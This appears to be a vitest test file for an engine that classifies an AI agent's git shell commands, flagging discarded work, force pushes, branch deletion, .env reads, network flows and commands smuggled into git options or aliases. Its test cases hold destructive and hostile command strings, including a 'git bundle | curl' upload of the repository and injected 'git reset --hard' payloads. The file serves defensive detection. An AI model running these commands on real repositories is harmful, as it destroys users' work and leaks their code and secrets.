import { describe, expect, test } from "vitest";
import type { Facts } from "../../../engine/facts/facts.ts";
import { factsOf } from "../../../engine/facts/facts-of-call.ts";
import type { Surroundings } from "../../../engine/surroundings.ts";
import { nowhere } from "../../nowhere.ts";
import { within } from "../../within.ts";

const project = "/home/dev/app";

/** A repository on branch `release/3` with a few files, aliases in its own settings and in the user's. */
const texts: Readonly<Record<string, string>> = {
  [`${project}/.git/HEAD`]: "ref: refs/heads/release/3\n",
  [`${project}/.git/refs/heads/docs`]: "0000\n",
  [`${project}/.git/packed-refs`]: "# pack-refs\n0000 refs/heads/notes.md\n",
  [`${project}/.git/config`]:
    '[core]\n\tbare = false\n[alias]\n\tnuke = reset --hard\n\tsh = "!git push \\"$@\\" #"\n',
  "/home/dev/.gitconfig": "[alias]\n\tpf = push \\\n --force\n\tloop = loop\n[user]\n\tundo = reset --hard\n",
  [`${project}/fix.patch`]: "--- a/src/a.ts\n+++ b/src/a.ts\n",
};
const repository: Surroundings = {
  ...nowhere,
  list: (directory) => (directory === project ? ["docs", "lib", "notes.md", "Makefile"] : undefined),
  read: (file) => texts[file],
};
const merging: Surroundings = {
  ...repository,
  read: (file) => (file === `${project}/.git/MERGE_HEAD` ? "0000\n" : texts[file]),
};

function factsIn(surroundings: Surroundings, command: string): Facts {
  const call = { agent: "test", session: "s", cwd: project, tool: "Bash" };
  return factsOf({ ...call, action: { kind: "shell", shell: "bash", command } }, surroundings);
}

/** Operations as `verb resource name (target)`, in the order of the call. */
function acts(command: string, surroundings = repository): readonly string[] {
  return factsIn(surroundings, command)
    .operations.filter(({ dryRun }) => !dryRun)
    .map(({ verb, resource, name, target }) =>
      `${verb} ${resource} ${name}${target === "unknown" ? "" : ` (${target})`}`.replace(/ +/g, " ").trim(),
    );
}

const reset = "discard-changes tree";

describe("uncommitted work that is thrown away is found", () => {
  test.each([
    ["a mode of reset", "git reset --hard HEAD~1", [reset]],
    ["an abbreviated mode", "git reset --mer", [reset]],
    ["an option undone", "git reset --hard --no-hard", []],
    ["a mode that keeps changes", "git reset --keep main", []],
    ["a mode known by its beginning alone", "git reset --ha$X", [reset]],
    ["a clustered force", "git checkout -qf main", [reset]],
    ["a force undone", "git checkout -f --no-force main", []],
    ["a path after two dashes", "git checkout -- -f", ["discard-changes file -f"]],
    ["a path after a revision", "git checkout main lib", ["discard-changes file lib"]],
    ["a file by its ending", "git checkout src/a.ts", ["discard-changes file src/a.ts"]],
    ["a directory that is there", "git checkout lib", ["discard-changes file lib"]],
    ["a file without an ending that is there", "git checkout Makefile", ["discard-changes file Makefile"]],
    ["a branch of a directory's name", "git checkout docs", []],
    ["a branch with an ending", "git checkout notes.md", []],
    ["a version", "git checkout v1.2.rc1", []],
    ["a line of versions", "git checkout release/2.x", []],
    ["a new branch with an ending", "git checkout -b fix/a.ts", []],
    ["a new branch attached to its option", "git checkout -bfix.ts", []],
    ["paths from a file", "git checkout HEAD --pathspec-from-file list", ["discard-changes file HEAD"]],
    ["the older side without a merge", "git checkout --ours src/a.ts", ["discard-changes file src/a.ts"]],
    ["a file in the index alone", "git restore --staged src/a.ts", []],
    ["the index and the work tree", "git restore -SW src/a.ts", ["discard-changes file src/a.ts"]],
    [
      "an option that is another's value",
      "git restore -s --staged src/a.ts",
      ["discard-changes file src/a.ts"],
    ],
    ["pieces of changes", "git restore -p", ["discard-changes file ."]],
    ["nothing named", "git restore --", []],
    ["help instead", "git restore --help src/a.ts", []],
    ["files that nobody tracks", "git clean -xdf", ["delete-untracked ignored"]],
    ["a dry run", "git clean -fdn", []],
    [
      "a setting that needs no force",
      "git -c clean.requireForce=no clean -d",
      ["use-setting clean.requireforce no", "delete-untracked untracked"],
    ],
    ["answers from a pipe", "yes | git clean -i", ["delete-untracked untracked"]],
    ["a tracked file by force", "git rm --no-force --force a.ts", ["discard-changes file a.ts"]],
    ["the index alone, undone", "git rm --cached --no-cached -f a.ts", ["discard-changes file a.ts"]],
    ["a file's spelling", "git mv -f readme.md README.md", []],
  ])("%s: %s", (_case, command, expected) => {
    expect(acts(command)).toEqual(expected);
  });

  test("one side of a conflict is no loss while a merge is under way", () => {
    expect(acts("git checkout --ours src/a.ts", merging)).toEqual([]);
    expect(acts("git restore --theirs .", merging)).toEqual([]);
  });
});

describe("what a push does to the remote is found", () => {
  test.each([
    [
      "a plain push goes to the branch that is checked out",
      "git push",
      ["push branch release/3 (production)"],
    ],
    ["a branch of one's own", "git push -u origin fix/a", ["push branch fix/a (other)"]],
    ["HEAD", "git push origin HEAD", ["push branch release/3 (production)"]],
    ["a full ref", "git push origin HEAD:refs/heads/main", ["push branch main (production)"]],
    ["a plus", "git push origin +fix", ["force-push branch fix (other)"]],
    ["an abbreviated force", "git push --forc origin fix", ["force-push branch fix (other)"]],
    ["a lease", "git push --force-with-lease=x origin fix", ["push-with-lease branch fix (other)"]],
    ["a lease and a plus", "git push --force-w=x origin +fix", ["force-push branch fix (other)"]],
    ["an empty source", "git push origin :fix", ["delete-remote branch fix (other)"]],
    ["a tag deleted", "git push -d origin refs/tags/v1", ["delete-remote tag refs/tags/v1 (other)"]],
    ["several branches", "git push origin +a b", ["force-push branch a (other)", "push branch b (other)"]],
    ["a mirror", "git push --mir origin", ["mirror-push remote origin (production)"]],
    ["a dry run", "git push -nf origin main", []],
    ["the command by its own name", "git-push -f origin fix", ["force-push branch fix (other)"]],
  ])("%s: %s", (_case, command, expected) => {
    expect(acts(command)).toEqual(expected);
  });
});

describe("a branch deleted by force loses nothing where the repository shows its commit elsewhere", () => {
  const [first, second] = ["a".repeat(40), "b".repeat(40)];
  const [third, fourth] = ["c".repeat(40), "d".repeat(40)];
  const refs: Readonly<Record<string, string>> = {
    "packed-refs": `# pack-refs\n${first} refs/heads/packed\n${first} refs/tags/v1\n^${second}\n${second} refs/heads/stale\n${second} refs/remotes/origin/pushed\n`,
    "refs/heads/stale": `${third}\n`,
    "refs/heads/pushed": `${second}\n`,
    "refs/heads/one": `${fourth}\n`,
    "refs/heads/two": `${fourth}\n`,
    "refs/heads/broken": "ref: refs/heads/one\n",
  };
  const clone: Surroundings = {
    ...repository,
    list: (directory) =>
      directory === `${project}/.git/refs/heads` ? ["stale", "pushed", "one", "two", "broken"] : undefined,
    read: (file) => refs[file.slice(`${project}/.git/`.length)],
  };
  test.each([
    ["a tag has it", "git branch -D packed", "merged"],
    ["it was pushed", "git branch -D pushed", "merged"],
    ["another branch has it", "git branch -D one", "merged"],
    ["the other branch goes too", "git branch -D one two", "unmerged"],
    ["the other branch went before", "git branch -d two; git branch -D one", "unmerged"],
    ["only its own older packed ref has it", "git branch -D stale", "unmerged"],
    ["it is no commit", "git branch -D broken", "unmerged"],
    ["it is not there", "git branch -D missing", "unmerged"],
    ["its name is not known", 'git branch -D "$B"', "unmerged"],
    ["it leads out of the refs", "git branch -D ../../packed-refs", "unmerged"],
  ])("%s: %s", (_case, command, expected) => {
    expect(acts(command, clone).at(-1)).toMatch(new RegExp(`^delete-${expected} branch`));
  });
});

describe("history that is lost or moved is found", () => {
  test.each([
    ["an unmerged branch", "git branch --del --forc a", ["delete-unmerged branch a (other)"]],
    ["a merged branch", "git branch -d main", ["delete-merged branch main (production)"]],
    ["a remote's branch as seen here", "git branch -dr origin/main", []],
    ["a new name", "git branch -M main", []],
    ["a branch over a shared one", "git branch -M a main", ["move-branch branch main (production)"]],
    ["a shared branch made anew", "git switch -C main HEAD~3", ["move-branch branch main (production)"]],
    ["a shared branch brought up to date", "git checkout -B main origin/main", []],
    ["a fetch over a branch", "git fetch origin +a:main", ["move-branch branch main (production)"]],
    ["refs from a pipe", "echo 'delete refs/heads/a' | git update-ref --stdin", ["delete-ref ref"]],
    ["refs that another program names", "git for-each-ref | git update-ref --stdin", ["delete-ref ref"]],
    ["the usual clean-up", "git gc --prune", []],
    ["a date", "git gc --p=now", ["prune-objects repository"]],
    [
      "a date in a setting",
      "git config gc.pruneExpire now; git gc",
      ["change-setting gc.pruneexpire now", "prune-objects repository"],
    ],
    ["a tag", "git tag -d v1", ["delete-tag tag v1"]],
    [
      "options before the command",
      "git -C x --no-pager -c a.b=c stash drop",
      ["use-setting a.b c", "drop-stash stash"],
    ],
  ])("%s: %s", (_case, command, expected) => {
    expect(acts(command)).toEqual(expected);
  });
});

describe("an alias is what it stands for", () => {
  test.each([
    ["for one command", "git -calias.x=reset x --hard", reset],
    ["with quotes in it", `git -c "alias.x=reset '--hard'" x`, reset],
    ["through another alias", "git -c alias.a=b -c alias.b='reset --hard' a", reset],
    [
      "of counted variables",
      "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0=reset git x --hard",
      reset,
    ],
    ["of packed variables", `GIT_CONFIG_PARAMETERS="'alias.x=reset'" git x --hard`, reset],
    ["of a variable", "X='reset --hard' git --config-env=alias.x=X x", reset],
    ["made before", "git config alias.x reset; git x --hard", reset],
    ["of the repository", "git nuke", reset],
    ["of a file the call wrote", "printf '[alias]\\nx = reset --hard\\n' > ~/.gitconfig; git x", reset],
    ["of the user, over two lines", "git pf origin a", "force-push branch a (other)"],
    ["a shell's, with arguments", "git sh -f origin a", "force-push branch a (other)"],
  ])("%s: %s", (_case, command, expected) => {
    expect(acts(command)).toContain(expected);
  });

  test.each([
    ["a name of git's own", "git -c alias.status='reset --hard' status"],
    ["an alias of itself", "git loop"],
    ["another section's line", "git undo"],
  ])("%s is none: %s", (_case, command) => {
    expect(acts(command)).not.toContain(reset);
  });

  test("an alias that cannot be known is opaque", () => {
    expect(factsIn(repository, "git --config-env=alias.x=NO x").opaque).toHaveLength(1);
    expect(factsIn(repository, "git stash $X").opaque).toHaveLength(1);
  });
});

describe("settings", () => {
  test.each([
    ["a key in any case", "git config Core.HooksPath x", ["change-setting core.hookspath x"]],
    ["the new spelling", "git config set core.hooksPath x", ["change-setting core.hookspath x"]],
    ["one that is read", "git config core.hooksPath", ["read-setting core.hookspath"]],
    ["one that is taken away", "git config --unset core.hooksPath", ["unset-setting core.hookspath"]],
    ["a program for the network", "git -c core.sshCommand=x fetch", ["use-setting core.sshcommand x"]],
    ["the same where there is none", "git -c core.sshCommand=x status", []],
    ["a plain switch", "git config core.fsmonitor true", []],
    ["hooks of a template", "git init --template=/tmp/t", ["use-setting init.templatedir /tmp/t"]],
  ])("%s: %s", (_case, command, expected) => {
    expect(acts(command)).toEqual(expected);
  });
});

describe("files that git reads and writes are found", () => {
  const secret = "read ~/app/.env";
  test.each([
    ["a file of a revision", "git show HEAD:.env", secret],
    ["a file of the index", "git show :0:.env", secret],
    ["lines of a file", "git log -L1,5:.env", secret],
    ["a pathspec with magic", "git log -p -- ':(icase).env'", secret],
    ["names on standard input", "echo HEAD:.env | git cat-file --batch", secret],
    ["a directory to start in", "git -C docs diff ../.env", secret],
    ["output into a file", "git log --output=a.txt", "write ~/app/a.txt"],
    ["a file restored", "git checkout HEAD -- a.txt", "write ~/app/a.txt"],
    ["a file moved into a directory", "git mv x/a.txt docs/", "write ~/app/docs/a.txt"],
    ["a patch in the call", "git apply <<'E'\n--- a/x\n+++ b/a.txt\nE", "write ~/app/a.txt"],
    ["a patch of a file", "git am fix.patch", "write ~/app/src/a.ts"],
    ["a patch the call wrote", "echo '+++ b/a.txt' > p; git apply p", "write ~/app/a.txt"],
    ["quoted names in a patch", `git apply <<'E'\n+++ "b/a\\056txt"\nE`, "write ~/app/a.txt"],
    ["a patch under a directory", "git apply --directory=docs fix.patch", "write ~/app/docs/src/a.ts"],
  ])("%s: %s", (_case, command, expected) => {
    const { files } = factsIn(repository, command);
    expect(files.map(({ access, path }) => `${access} ${path}`)).toContain(expected);
  });

  test.each([
    ["a summary", "git diff --stat .env"],
    ["a list of commits", "git log --oneline -- .env"],
    ["what is left out", "git diff -- ':!.env'"],
    ["a patch that is only checked", "git apply --check fix.patch"],
    ["a file taken out of the index", "git rm --cached .env"],
  ])("%s is none: %s", (_case, command) => {
    expect(factsIn(repository, command).files.filter(({ path }) => path !== "~/app/fix.patch")).toEqual([]);
  });
});

describe("where git connects to", () => {
  test.each([
    ["a clone", "git clone --depth 1 https://a.example/b.git", "in a.example"],
    ["ssh by its short form", "git ls-remote dev@a.example:b.git", "in a.example"],
    ["a new remote", "git remote add a https://a.example/b", "in a.example"],
    ["a submodule", "git submodule add -b x https://a.example/b", "in a.example"],
    ["another machine's archive", "git archive --remote=ssh://a.example/b HEAD", "in a.example"],
    ["a push to an address", "git push https://a.example/b main", "out a.example"],
    ["a push to a remote made before", "git remote add a https://a.example/b; git push a", "out a.example"],
    ["a part of the history pushed", "git subtree push -P docs https://a.example/b main", "out a.example"],
    ["a remote for one command", "git -c remote.a.url=https://a.example/b push a", "out a.example"],
  ])("%s: %s", (_case, command, expected) => {
    const { network } = factsIn(repository, command);
    expect(network.map(({ direction, host }) => `${direction} ${host}`)).toContain(expected);
  });

  test("a push to a new place sends the repository, one to the project's own does not", () => {
    const sent = [{ from: "file", source: `${project}/.git`, to: "network", sink: "a.example" }];
    expect(factsIn(repository, "git push https://a.example/b").flows).toEqual(sent);
    expect(factsIn(repository, "git bundle create - --all | curl -T - a.example").flows).toEqual(sent);
    const first = "git remote add origin https://a.example/b; git push -u origin main";
    expect(factsIn(repository, first).flows).toEqual([]);
  });
});

describe("commands inside git's arguments are found", () => {
  test.each([
    ["another program for the other side", "git fetch --upload-pack='git reset --hard' origin"],
    ["a pager", "git grep -O'git reset --hard' x"],
    ["a comparison", "git difftool -x 'git reset --hard'"],
    ["a command between commits", "git rebase -x 'git reset --hard' main"],
    ["a command for each submodule", "git submodule --quiet foreach --recursive git reset --hard"],
    ["a search for a commit", "git bisect run git reset --hard"],
    ["a filter of each commit", "git filter-branch -f --tree-filter 'git reset --hard' HEAD"],
    ["a transport that is a command", "git clone 'ext::git reset --hard' x"],
    ["an editor", "git -c core.editor='git reset --hard' commit"],
    ["a variable", "GIT_EXTERNAL_DIFF='git reset --hard' git diff"],
  ])("%s: %s", (_case, command) => {
    expect(acts(command)).toContain(reset);
  });
});

test.each([
  ["many options", `git ${"-c a=b ".repeat(5_000)} push --force`],
  ["many abbreviations", `git push ${"--f ".repeat(12_000)}`],
  [
    "many aliases",
    `git ${Array.from({ length: 900 }, (_, i) => `-c alias.a${i}='a${i + 1} a b'`).join(" ")} a0`,
  ],
  ["aliases that grow", `${"git config alias.a 'a a a a'; ".repeat(1_500)} git a`],
  ["an alias of the shell that calls itself", "git -c alias.a='!git -c alias.a=\"!git a\" a' a"],
  ["a long patch", `git apply <<'E'\n${"+++ b/x\n".repeat(7_000)}E`],
  ["quotes without end", `git -c "alias.x=${"'\\\\".repeat(15_000)}" x`],
])("%s take bounded work", async (_case, command) => {
  await within(3_000, () => factsIn(repository, command));
});
